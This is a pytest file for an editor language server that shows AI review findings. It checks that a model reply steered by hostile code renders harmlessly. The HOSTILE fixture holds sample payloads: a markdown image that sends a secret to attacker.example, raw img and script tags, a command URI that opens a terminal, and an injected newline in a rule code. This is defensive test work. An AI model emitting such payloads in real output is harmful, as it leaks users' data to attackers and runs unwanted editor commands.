"""A model reply steered by the code it read renders nothing in the editor: no image, link, HTML or command URI
in a hover, a sane diagnostic code and code action title, the fix tagged as a model's and never preferred."""

import re

import pytest
from lsprotocol import types

from manyeyes.devtools.fake_provider import Reply
from tests.lsp.helpers import code_actions, open_document, review_file

SOURCE = "def run(cmd):\n    return eval(cmd)\n"
EXFILTRATE = "![x](https://attacker.example/p.png?d=SECRET) <img src=x> [open](command:workbench.action.terminal.new)"
HOSTILE = {
    "title": "Eval of input " + EXFILTRATE,
    "severity": "high",
    "confidence": 0.9,
    "line": 1,
    "quote": "def run(cmd):",  # code no analyzer flags for security: the finding stands alone, as the model wrote it
    "explanation": "See " + EXFILTRATE + "\n\n<script>alert(1)</script>",
    "rule": "B307\n<img src=x>",
    "fix": {"replacement": "def run(cmd: str):", "description": "Apply " + EXFILTRATE + "\n" * 3 + "x" * 500},
}


@pytest.fixture
def init_options(model_options):
    return model_options


@pytest.mark.asyncio
async def test_model_text_is_data_in_the_editor(client, ws, fake):
    fake.script("security", Reply(findings=[HOSTILE]))
    uri = open_document(client, ws / "app.py", SOURCE)
    await review_file(client, uri)
    diagnostics = [d for d in client.diagnostics[uri] if "Eval of input" in d.message]
    assert diagnostics and all("\n" not in d.message for d in diagnostics)
    assert {d.code for d in client.diagnostics[uri]} <= {"B307", "manyeyes/security", "test-gap"}  # no "<img>"
    hover = await client.text_document_hover_async(
        types.HoverParams(text_document=types.TextDocumentIdentifier(uri=uri), position=diagnostics[0].range.start)
    )
    text = hover.contents.value
    links = re.findall(r"(?<!\\)\]\(([^)]*)\)", text)
    assert all(link.startswith("<https://") for link in links)  # only the rule's documentation
    assert not re.search(r"(?<!\\)<(img|script)", text) and "https://attacker" not in text
    actions = await code_actions(client, uri, diagnostics[0])
    fix = next(a for a in actions if getattr(a, "edit", None) is not None)
    assert "\n" not in fix.title and len(fix.title) <= 120 and not fix.is_preferred
    assert list(fix.tags) == [types.CodeActionTag.LlmGenerated]
